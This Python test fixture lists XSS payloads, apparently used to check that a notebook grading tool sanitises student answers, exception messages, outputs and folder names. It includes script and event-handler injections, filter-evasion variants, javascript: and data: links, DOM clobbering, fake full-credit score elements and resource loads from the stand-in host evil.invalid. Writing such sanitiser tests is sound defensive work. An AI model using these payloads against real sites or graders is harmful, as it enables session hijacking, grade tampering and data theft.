"""What a submission might put into a page: each tries to run `window.ran = 1` or to fetch something from elsewhere.

All are tried as the text of a free answer, as the message of an exception, as a value, and as every kind of output.
"""

import base64

_JS = "window.ran=1"
_AWAY = "//evil.invalid/x"
_PAGE = base64.b64encode(f"<script>parent.{_JS};top.{_JS}</script>".encode()).decode()

PAYLOADS = {
    "script": f"<script>{_JS}</script>",
    "script-upper": f"<ScRiPt>{_JS}</sCrIpT >",
    "script-away": f"<script src={_AWAY}></script>",
    "script-nested": f"<scr<script>ipt>{_JS}</scr</script>ipt>",
    "script-module": f'<script type="module">{_JS}</script>',
    "img-onerror": f"<img src=x onerror={_JS}>",
    "img-onerror-slash": f"<img/src=x/onerror={_JS}>",
    "img-onerror-broken": f'<img """><script>{_JS}</script>">',
    "img-away": f"<img src={_AWAY} srcset={_AWAY}>",
    "img-markdown-away": f"![x](http:{_AWAY})",
    "img-markdown-here": "![x](/formgrader/manage_students) ![y](../../../logout)",
    "img-markdown-missing": "![x](attachment:missing.png)",
    "svg-onload": f"<svg onload={_JS}></svg>",
    "svg-script": f"<svg><script>{_JS}</script></svg>",
    "svg-animate": f"<svg><animate onbegin={_JS} attributeName=x dur=1s></svg>",
    "svg-use": f"<svg><use href='data:image/svg+xml;base64,{_PAGE}#x'></svg>",
    "svg-foreign": f"<svg><foreignObject><img src=x onerror={_JS}></foreignObject></svg>",
    "math": f"<math><mtext></form><form><mglyph><style></math><img src onerror={_JS}>",
    "math-href": f'<math href="javascript:{_JS}">CLICK</math>',
    "link-javascript": f"[click](javascript:{_JS})",
    "link-entity": f"[click](java&#115;cript:{_JS})",
    "link-control": f"<a href='java\tscript:{_JS}'>click</a> <a href='\x01javascript:{_JS}'>click</a>",
    "link-data": f"[click](data:text/html;base64,{_PAGE})",
    "link-reference": f"[click][1]\n\n[1]: javascript:{_JS}",
    "link-auto": f"<javascript:{_JS}>",
    "iframe": f"<iframe src='javascript:{_JS}'></iframe>",
    "iframe-srcdoc": f'<iframe srcdoc="<script>parent.{_JS}</script>"></iframe>',
    "object": f"<object data='data:text/html;base64,{_PAGE}'></object>",
    "embed": f"<embed src='data:text/html;base64,{_PAGE}'>",
    "style": "<style>@import url(http://evil.invalid/x); body { background: url(//evil.invalid/x) }</style>",
    "style-attribute": "<p style='background:url(//evil.invalid/x);position:fixed;inset:0'>cover</p>",
    "link-element": f"<link rel=stylesheet href={_AWAY}>",
    "meta-refresh": f"<meta http-equiv=refresh content='0;url={_AWAY}'>",
    "base": f"<base href={_AWAY}/>",
    "form": f"<form action={_AWAY}><input name=x autofocus onfocus={_JS}><button formaction='javascript:{_JS}'>x",
    "details": f"<details open ontoggle={_JS}>x</details>",
    "media": f"<video src=x onerror={_JS}></video><audio src=x onerror={_JS}></audio><source onerror={_JS}>",
    "marquee": f"<marquee onstart={_JS}>x</marquee>",
    "template": f"<template><script>{_JS}</script></template>",
    "noscript": f"<noscript><p title='</noscript><img src=x onerror={_JS}>'>",
    "comment": f"<!--><img src=x onerror={_JS}>-->",
    "cdata": f"<![CDATA[<img src=x onerror={_JS}>]]>",
    "textarea": f"</textarea></title></style></script><img src=x onerror={_JS}>",
    "attribute-break": f"\"'><img src=x onerror={_JS}>",
    "code-fence": f"```<img src=x onerror={_JS}>\n<script>{_JS}</script>\n```",
    "code-language": f'```python"><img src=x onerror={_JS}>\nx\n```',
    "mermaid": f"```mermaid\n<img src=x onerror={_JS}>\n```",
    "heading": f'# <img src=x onerror={_JS}> "><script>{_JS}</script>',
    "table": f"| <img src=x onerror={_JS}> | b |\n|---|---|\n| <script>{_JS}</script> | c |",
    "maths-inline": f"$<img src=x onerror={_JS}>$ $$<script>{_JS}</script>$$",
    "maths-environment": f"\\begin{{equation}}<img src=x onerror={_JS}>\\end{{equation}}",
    "maths-delimiter": f"$a$<img src=x onerror={_JS}>$b$",
    "maths-script": f"<script type='math/tex'>\\href{{javascript:{_JS}}}{{x}}</script>",
    "ansi": f"\x1b[31m<img src=x onerror={_JS}>\x1b[0m \x1b]8;;javascript:{_JS}\x07click\x1b]8;;\x07",
    "jinja": f"{{{{ 7*7*7*7*7 }}}} {{% raw %}}<script>{_JS}</script>",
    "buttons": "<button class='full-credit'>x</button><input class='score' id='q1' value='9'>"
    "<div class='btn full-credit' id='statusmessage'>x</div>",
    "clobber": "<a id=submission_id></a><a name=base_url href=//evil.invalid></a><img name=jQuery>",
}

NAMES = (
    f"eve<img src=x onerror={_JS}>",
    f"eve'\"><svg onload={_JS}>",
    "eve&lt;b&gt;",
)
"""Folders in `submitted/` may be called like this."""
